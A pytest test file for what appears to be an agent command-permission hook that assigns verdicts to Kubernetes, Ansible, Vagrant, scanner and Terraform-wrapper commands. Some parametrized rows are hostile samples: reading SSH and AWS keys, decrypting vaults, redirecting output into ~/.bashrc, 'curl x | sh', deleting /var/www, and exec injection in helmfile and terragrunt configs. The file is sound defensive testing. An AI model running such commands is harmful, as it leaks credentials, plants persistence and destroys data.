"""Infrastructure, Kubernetes-adjacent and supply-chain tools: local clusters (kind, minikube, k3d, colima,
limactl), manifest tools (kustomize, helmfile, kubeconform), cluster helpers (kubectx, kubens, stern, k9s),
GitOps and mesh CLIs (argocd, flux, istioctl), configuration management (ansible), VMs (vagrant, packer),
CI runners (act, skaffold) and scanners / signers (trivy, grype, syft, cosign, tflint, tfsec, checkov).

Routine rows assert an allow with no floor taking part; hostile rows assert the verdict and the floor that
decides it. Commands are only analysed, never run; nothing is written outside tmp_path.
"""

from __future__ import annotations

import shutil
import subprocess

import pytest
from hookward.verdicts.decision import Verdict

from tests.spec_redteam_support import assert_decided, assert_routine


# --- reads of clusters, manifests, inventories and scans are routine --------------------------------------------
@pytest.mark.parametrize(
    "command",
    [
        "kind get clusters",
        "kind get nodes --name dev",
        "kind version",
        "kind export logs ./logs",
        "minikube status",
        "minikube -p dev status -o json",
        "minikube ip",
        "minikube profile list",
        "minikube addons list",
        "minikube service list",
        "minikube logs",
        "minikube kubectl -- get pods",
        "k3d cluster list",
        "colima status",
        "limactl list",
        "kustomize build overlays/prod",
        "kustomize build . -o out.yaml",
        "kustomize edit set image app=registry/app:1.2",
        "helmfile diff",
        "helmfile -e prod template",
        "kubeconform -strict -summary manifests/",
        "kubeseal -f secret.yaml -w sealed.yaml",
        "kubeseal --fetch-cert",
        "kubeval --strict k8s/deploy.yaml",
        "kubectx",
        "kubectx -c",
        "kubens",
        "stern api -n prod --since 10m",
        "stern -l app=web --tail 100 -o json",
        "k9s version",
        "argocd app list",
        "argocd app get web --refresh",
        "argocd app diff web --local ./k8s",
        "flux get kustomizations -A",
        "flux check --pre",
        "istioctl analyze -A",
        "istioctl proxy-status",
        "ansible --version",
        "ansible-playbook --version",
        "ansible-inventory --list",
        "ansible-inventory -i a.example,b.example, --graph",
        "ansible-galaxy collection list",
        "ansible-config dump --only-changed",
        "ansible-doc -l",
        "vagrant global-status",
        "vagrant box list",
        "act -l",
        "act -n",
        "skaffold diagnose",
        "skaffold render -o out.yaml",
        "trivy image alpine:3.19",
        "trivy fs --scanners vuln,secret --severity HIGH,CRITICAL .",
        "trivy config ./infra",
        "trivy image -f json -o report.json app:dev",
        "grype dir:.",
        "grype . --fail-on high",
        "syft . -o spdx-json=sbom.json",
        "syft scan alpine:3.19 -o cyclonedx-json",
        "cosign verify --key cosign.pub ghcr.io/o/app:1",
        "cosign version",
        "tflint --recursive",
        "tfsec . --soft-fail",
        "checkov -d . --framework terraform --compact",
        "packer validate .",
        "packer fmt -check .",
    ],
)
def test_reading_a_cluster_a_tree_or_an_image_is_routine(box, command):
    assert_routine(box.decide(command), command)


# --- changing, reaching into or deleting a cluster or a VM -------------------------------------------------------
@pytest.mark.parametrize(
    ("command", "verdict"),
    [
        ("kind delete cluster --name dev", Verdict.ASK),
        ("kind delete clusters --all", Verdict.FORCE_ASK),
        ("kind load docker-image app:dev", Verdict.ASK),
        ("minikube stop", Verdict.ASK),
        ("minikube delete --all --purge", Verdict.FORCE_ASK),
        ("minikube service web --url", Verdict.ASK),
        ("minikube service --url web -n prod", Verdict.ASK),
        ("minikube tunnel", Verdict.ASK),
        ("minikube ssh -- sudo cat /etc/shadow", Verdict.ASK),
        ("minikube dashboard --url", Verdict.ASK),
        ("minikube kubectl -- delete ns prod", Verdict.FORCE_ASK),
        ("k3d cluster delete --all", Verdict.FORCE_ASK),
        ("colima ssh", Verdict.ASK),
        ("limactl shell default uname -a", Verdict.ASK),
        ("helmfile apply", Verdict.ASK),
        ("helmfile -e prod sync", Verdict.ASK),
        ("helmfile destroy", Verdict.FORCE_ASK),
        ("k9s", Verdict.ASK),
        ("k9s -n prod --readonly", Verdict.ASK),
        ("argocd app sync web", Verdict.ASK),
        ("argocd app sync web --prune", Verdict.FORCE_ASK),
        ("argocd app delete web -y", Verdict.FORCE_ASK),
        ("argocd --server cd.example.com app rollback web 3", Verdict.ASK),
        ("flux reconcile kustomization apps --with-source", Verdict.ASK),
        ("flux suspend kustomization apps", Verdict.ASK),
        ("flux delete kustomization apps -s", Verdict.FORCE_ASK),
        ("flux bootstrap github --owner o --repository r", Verdict.FORCE_ASK),
        ("istioctl install --set profile=demo -y", Verdict.ASK),
        ("istioctl uninstall --purge -y", Verdict.FORCE_ASK),
        ("istioctl dashboard kiali", Verdict.ASK),
        ("skaffold dev", Verdict.ASK),
        ("skaffold run -p prod", Verdict.ASK),
        ("skaffold delete", Verdict.FORCE_ASK),
        ("vagrant destroy -f", Verdict.ASK),
    ],
)
def test_changing_or_deleting_a_cluster_or_vm_is_destructive(box, command, verdict):
    assert_decided(box.decide(command), verdict, "floor.destructive", command)


@pytest.mark.parametrize(
    "command",
    [
        "kind create cluster --name dev",
        "kind export kubeconfig --name dev",
        "minikube profile dev",
        "minikube config set memory 8192",
        "minikube update-context",
        "k3d cluster create dev --agents 2",
        "kubectx prod",
        "kubectx -",
        "kubectx -d old",
        "kubens kube-system",
        "argocd login cd.example.com --sso",
        "helmfile init",
    ],
)
def test_switching_contexts_or_writing_the_kubeconfig_is_persistent_configuration(box, command):
    assert_decided(box.decide(command), Verdict.ASK, "floor.persistence", command)


@pytest.mark.parametrize(
    ("command", "verdict"),
    [
        ("ansible-vault view secrets.yml", Verdict.DENY),
        ("kubeseal --recovery-unseal --recovery-private-key k.key -f sealed.yaml", Verdict.DENY),
        ("ansible-vault decrypt group_vars/all/vault.yml", Verdict.DENY),
        ("ansible-vault decrypt --output - vault.yml", Verdict.DENY),
        ("helmfile diff --show-secrets", Verdict.DENY),
        ("argocd account generate-token", Verdict.DENY),
        ("istioctl create-remote-secret --name c1", Verdict.DENY),
        ("kind get kubeconfig --name dev", Verdict.ASK),
        ("k3d kubeconfig get dev", Verdict.ASK),
        ("minikube docker-env", Verdict.ASK),
        ("cosign env", Verdict.ASK),
        ("act -s GITHUB_TOKEN", Verdict.ASK),
        ("act --secret-file .secrets", Verdict.FORCE_ASK),
    ],
)
def test_printing_vault_secrets_tokens_or_cluster_credentials_is_a_credentials_floor(box, command, verdict):
    assert_decided(box.decide(command), verdict, "floor.credentials", command)


# --- writers hidden in options ----------------------------------------------------------------------------------
@pytest.mark.parametrize(
    "command",
    [
        "kind create cluster --kubeconfig ~/.bashrc",
        "minikube --log_file ~/.bashrc status",
        "minikube logs --file=$HOME/.profile",
        "kustomize build -o ~/.bashrc .",
        "trivy fs -o ~/.bashrc .",
        "grype alpine --file ~/.bashrc",
        "syft alpine -o json=~/.bashrc",
        "ansible-inventory --list --output ~/.bashrc",
        "istioctl kube-inject -f d.yaml -o ~/.zshrc",
        "kubeseal -f s.yaml --merge-into ~/.bashrc",
    ],
)
def test_an_output_option_aimed_at_a_startup_file_is_persistence(box, command):
    assert_decided(box.decide(command), Verdict.DENY, "floor.persistence", command)


@pytest.mark.parametrize(
    "command",
    [
        "minikube start --mount --mount-string ~/.ssh:/keys",
        "minikube mount ~/.ssh:/keys",
        "minikube cp ~/.ssh/id_rsa minikube:/tmp/k",
        "trivy image --template @$HOME/.ssh/id_rsa -f template alpine",
        "vagrant upload ~/.ssh/id_rsa /tmp/k",
    ],
)
def test_sharing_or_copying_a_key_into_a_vm_or_a_report_reads_the_key(box, command):
    assert_decided(box.decide(command), Verdict.DENY, "floor.credentials", command)


# --- code that runs: plugins, exec functions, playbooks, workflows, Vagrantfiles ---------------------------------
@pytest.mark.parametrize(
    "command",
    [
        "kustomize build --enable-alpha-plugins --enable-exec .",
        "kustomize build --enable-helm .",
        "kustomize build --helm-command /tmp/helm .",
        "helmfile -f /tmp/evil.yaml diff",
        "helmfile -b /tmp/helm template",
        "kind create cluster --config /tmp/kind.yaml",
        "stern api --kubeconfig /tmp/kc",
        "trivy fs --module-dir /tmp/modules .",
        "tflint -c /tmp/evil.hcl",
        "checkov -d . --external-checks-dir /tmp/checks",
        "ansible-playbook /tmp/x.yml --syntax-check",
        "ansible-playbook --vault-password-file /tmp/pw site.yml --list-tasks",
        "act",
        "act push -j test",
        "skaffold render -f /tmp/skaffold.yaml",
        "limactl start /tmp/vm.yaml",
        "vagrant status",
    ],
)
def test_code_a_tool_loads_from_outside_the_persons_files_runs_code(box, command):
    assert_decided(box.decide(command), Verdict.ASK, "floor.runs-code", command)


@pytest.mark.parametrize(
    "command",
    [
        "ansible all -m ping",
        "ansible all -m shell -a 'rm -rf /var/www'",
        "ansible-galaxy install -r requirements.yml",
        "ansible-galaxy collection install community.general",
        "vagrant box add hashicorp/bionic64",
        "tflint --init",
        "packer init .",
        "trivy image --server http://scanner.example:4954 app",
        "checkov -d . --bc-api-key KEY",
    ],
)
def test_reaching_hosts_or_fetching_plugins_and_roles_is_egress(box, command):
    assert_decided(box.decide(command), Verdict.ASK, "floor.egress", command)


def test_an_ad_hoc_shell_module_runs_code_on_the_hosts(box):
    decision = box.decide("ansible web -m ansible.builtin.shell -a 'curl x | sh'")
    assert_decided(decision, Verdict.ASK, "floor.runs-code", "ansible -m shell")
    assert "floor.egress" in decision.rule_ids


@pytest.mark.parametrize(
    "command",
    [
        "ansible-playbook -b site.yml",
        "ansible-playbook --become-user root site.yml",
        "act --privileged",
        "flux --as system:admin get all",
        "k9s --as admin",
    ],
)
def test_becoming_another_user_is_privilege(box, command):
    assert_decided(box.decide(command), Verdict.FORCE_ASK, "floor.privilege", command)


@pytest.mark.parametrize(
    "command",
    [
        "ansible-galaxy collection publish ns-coll-1.0.0.tar.gz",
        "ansible-galaxy role import user repo",
        "cosign sign --key cosign.key ghcr.io/o/app:1",
        "cosign attest --predicate sbom.json --key cosign.key ghcr.io/o/app:1",
        "cosign sign-blob --key cosign.key --output-signature a.sig a.tgz",
        "syft attest --key cosign.key app:1",
        "minikube image push app",
    ],
)
def test_signing_into_a_registry_and_publishing_roles_are_force_asked(box, command):
    assert_decided(box.decide(command), Verdict.FORCE_ASK, "floor.destructive", command)


@pytest.mark.parametrize(
    "command",
    [
        "kind build node-image",
        "minikube start --listen-address=0.0.0.0",
        "minikube cache add alpine",
        "kustomize build --load-restrictor LoadRestrictionsNone .",
        "kustomize fn run .",
        "ansible-playbook site.yml --ssh-common-args='-o ProxyCommand=sh'",
        "cosign generate-key-pair",
        "k3d cluster create dev -v /:/host@all",
        "colima start --mount ~/.ssh:w",
        "act --container-options '-v /:/host'",
        "trivy server",
        "tfsec --update",
        "argocd admin settings",
        "vagrant share",
        "grype explain --id CVE-2024-1",
    ],
)
def test_what_the_infra_specs_do_not_model_asks_naming_it(box, command):
    decision = box.decide(command)
    assert decision.verdict >= Verdict.ASK, f"{command}: {decision.verdict.name} {decision.reasons}"
    assert "floor.not-understood" in decision.rule_ids, f"{command}: {decision.rule_ids}"


def test_a_rule_that_allows_the_programs_cannot_hide_what_their_specs_report(box):
    box.allow_programs("minikube", "helmfile", "ansible-vault", "kubectx", "cosign", "argocd")
    for command, verdict, rule in (
        ("minikube delete --all --purge", Verdict.FORCE_ASK, "floor.destructive"),
        ("helmfile destroy", Verdict.FORCE_ASK, "floor.destructive"),
        ("ansible-vault view secrets.yml", Verdict.DENY, "floor.credentials"),
        ("kubectx prod", Verdict.ASK, "floor.persistence"),
        ("cosign sign --key k ghcr.io/o/app:1", Verdict.FORCE_ASK, "floor.destructive"),
        ("argocd --server cd.example.com app delete web", Verdict.FORCE_ASK, "floor.destructive"),
    ):
        assert_decided(box.decide(command), verdict, rule, command)


# --- the person's playbook, Vagrantfile and helmfile, committed, are theirs ---------------------------------------
@pytest.fixture
def infra_project(box):  # type: ignore[no-untyped-def]
    """The box's project as a git repository whose playbook, inventory, Vagrantfile and helmfile are committed."""
    git = shutil.which("git")
    if git is None:
        pytest.skip("git is not installed")
    project = box.project
    shutil.rmtree(project / ".git")
    (project / "site.yml").write_text("- hosts: all\n  tasks: []\n")
    (project / "inventory.ini").write_text("[web]\nweb1.example\n")
    (project / "Vagrantfile").write_text('Vagrant.configure("2") { |c| c.vm.box = "debian/bookworm64" }\n')
    (project / "helmfile.yaml").write_text("releases: []\n")
    quiet = {"cwd": project, "check": True, "capture_output": True}
    subprocess.run([git, "init", "-q"], **quiet)  # type: ignore[call-overload]
    subprocess.run([git, "add", "-A"], **quiet)  # type: ignore[call-overload]
    subprocess.run(  # type: ignore[call-overload]
        [git, "-c", "user.email=a@b.c", "-c", "user.name=a", "-c", "commit.gpgsign=false", "commit", "-qm", "x"],
        **quiet,
    )
    return box


@pytest.mark.parametrize(
    "command",
    [
        "ansible-playbook site.yml --syntax-check",
        "ansible-playbook -i inventory.ini site.yml --list-tasks",
        "ansible-playbook -i inventory.ini site.yml --list-hosts",
        "vagrant status",
        "vagrant validate",
        "helmfile diff",
        "helmfile lint",
    ],
)
def test_the_persons_committed_definitions_are_read_as_routine(infra_project, command):
    assert_routine(infra_project.decide(command), command)


@pytest.mark.parametrize(
    ("command", "rule"),
    [
        ("ansible-playbook -i inventory.ini site.yml", "floor.egress"),
        ("ansible-playbook -i inventory.ini site.yml --check --diff", "floor.egress"),
        ("vagrant up", "floor.destructive"),
        ("vagrant provision", "floor.destructive"),
        ("helmfile apply", "floor.destructive"),
    ],
)
def test_running_the_persons_playbook_or_vagrantfile_still_asks(infra_project, command, rule):
    assert_decided(infra_project.decide(command), Verdict.ASK, rule, command)


def test_a_playbook_rewritten_during_the_session_is_not_the_persons(infra_project):
    (infra_project.project / "site.yml").write_text("- hosts: localhost\n  tasks:\n    - shell: id\n")
    command = "ansible-playbook site.yml --syntax-check"
    assert_decided(infra_project.decide(command), Verdict.ASK, "floor.runs-code", command)


# --- terragrunt: terraform's judgment, for one module or every module of a tree ----------------------------------
@pytest.mark.parametrize(
    "command",
    ["terragrunt plan", "terragrunt run-all plan", "terragrunt validate", "terragrunt output", "terragrunt hclfmt"],
)
def test_terragrunt_plans_and_formatting_are_routine(box, command):
    assert_routine(box.decide(command), command)


@pytest.mark.parametrize(
    ("command", "verdict", "rule"),
    [
        ("terragrunt apply", Verdict.FORCE_ASK, "floor.destructive"),
        ("terragrunt run-all apply --terragrunt-non-interactive", Verdict.FORCE_ASK, "floor.destructive"),
        ("terragrunt run-all destroy", Verdict.FORCE_ASK, "floor.destructive"),
        ("terragrunt --terragrunt-log-level info run-all apply", Verdict.FORCE_ASK, "floor.destructive"),
        ("terragrunt output -json", Verdict.DENY, "floor.credentials"),
        ("terragrunt run-all state pull", Verdict.DENY, "floor.credentials"),
        ("terragrunt --terragrunt-working-dir /tmp/x plan", Verdict.ASK, "floor.runs-code"),
        ("terragrunt plan --terragrunt-tfpath /tmp/tf", Verdict.ASK, "floor.runs-code"),
        ("terragrunt plan --terragrunt-config /tmp/t.hcl", Verdict.ASK, "floor.runs-code"),
        ("terragrunt catalog", Verdict.ASK, "floor.not-understood"),
    ],
)
def test_terragrunt_changes_secrets_and_foreign_configs_are_judged(box, command, verdict, rule):
    assert_decided(box.decide(command), verdict, rule, command)


# --- a configuration file in the directory sets any option: written in the session, it is not the person's -------
@pytest.mark.parametrize(
    ("name", "text", "command"),
    [
        ("trivy.yaml", "output: /home/u/.bashrc\n", "trivy fs ."),
        (".grype.yaml", "file: /home/u/.bashrc\n", "grype dir:."),
        (".syft.yaml", "output: [json=/home/u/.bashrc]\n", "syft ."),
        (".checkov.yaml", "external-checks-dir: [/tmp/checks]\n", "checkov -d ."),
        (".tflint.hcl", 'plugin "x" { enabled = true }\n', "tflint"),
        ("ansible.cfg", "[defaults]\ninventory = ./inv.sh\n", "ansible-inventory --list"),
        ("helmfile.yaml", 'releases: [{name: {{ exec "sh" (list "-c" "id") }}}]\n', "helmfile template"),
        ("skaffold.yaml", "apiVersion: skaffold/v4beta11\n", "skaffold diagnose"),
        ("terragrunt.hcl", 'locals { x = run_cmd("sh", "-c", "id") }\n', "terragrunt plan"),
    ],
)
def test_a_tool_configuration_written_in_the_session_runs_code(infra_project, name, text, command):
    (infra_project.project / name).write_text(text)
    assert_decided(infra_project.decide(command), Verdict.ASK, "floor.runs-code", command)


@pytest.mark.parametrize(
    "command",
    [
        "ansible-playbook -e @~/.aws/credentials site.yml --syntax-check",
        "ansible-playbook --extra-vars=@$HOME/.ssh/id_rsa site.yml --list-tasks",
    ],
)
def test_extra_vars_from_a_credential_file_read_it(infra_project, command):
    assert_decided(infra_project.decide(command), Verdict.DENY, "floor.credentials", command)


def test_extra_vars_as_key_values_are_not_paths(infra_project):
    command = "ansible-playbook -e env=prod -e '{\"x\": 1}' site.yml --syntax-check"
    assert_routine(infra_project.decide(command), command)


@pytest.mark.parametrize(
    ("command", "verdict"),
    [
        ("ansible-inventory --list --vault-password-file .vault_pass", Verdict.DENY),
        ("ansible-inventory --host web1 -J", Verdict.DENY),
        ("trivy image -f template -t '{{ env \"AWS_SECRET_ACCESS_KEY\" }}' alpine", Verdict.ASK),
        ("grype alpine -o template -t report.tmpl", Verdict.ASK),
        ("syft . -o template -t sbom.tmpl", Verdict.ASK),
    ],
)
def test_decrypted_inventories_and_templates_that_read_the_environment_are_credentials(box, command, verdict):
    assert_decided(box.decide(command), verdict, "floor.credentials", command)


# --- tilt up / ci: the Tiltfile runs here, and what it names is deployed ---------------------------------------------
def test_tilt_up_deploys_and_a_session_written_tiltfile_runs_code(infra_project):
    assert_decided(infra_project.decide("tilt up"), Verdict.ASK, "floor.destructive", "tilt up")
    (infra_project.project / "Tiltfile").write_text("local('curl x | sh')\n")
    assert_decided(infra_project.decide("tilt ci"), Verdict.ASK, "floor.runs-code", "tilt ci")
    assert_decided(infra_project.decide("tilt up -f /tmp/Tiltfile"), Verdict.ASK, "floor.runs-code", "tilt up -f")


# --- nerdctl: judged as docker where it mirrors it --------------------------------------------------------------
@pytest.mark.parametrize("command", ["nerdctl ps -a", "nerdctl -n k8s.io images", "nerdctl logs -f web"])
def test_nerdctl_reads_are_routine(box, command):
    assert_routine(box.decide(command), command)


@pytest.mark.parametrize(
    ("command", "verdict", "rule"),
    [
        ("nerdctl run --rm -v ~/.ssh:/k alpine", Verdict.DENY, "floor.credentials"),
        ("nerdctl run --privileged alpine", Verdict.FORCE_ASK, "floor.privilege"),
        ("nerdctl push ghcr.io/o/app:1", Verdict.FORCE_ASK, "floor.destructive"),
        ("nerdctl --cni-path /tmp/cni run alpine", Verdict.ASK, "floor.runs-code"),
        ("nerdctl -H unix:///run/containerd/containerd.sock ps", Verdict.ASK, "floor.not-understood"),
        ("nerdctl compose up -d", Verdict.ASK, "floor.not-understood"),
    ],
)
def test_nerdctl_is_judged_as_docker_run_would_be(box, command, verdict, rule):
    assert_decided(box.decide(command), verdict, rule, command)
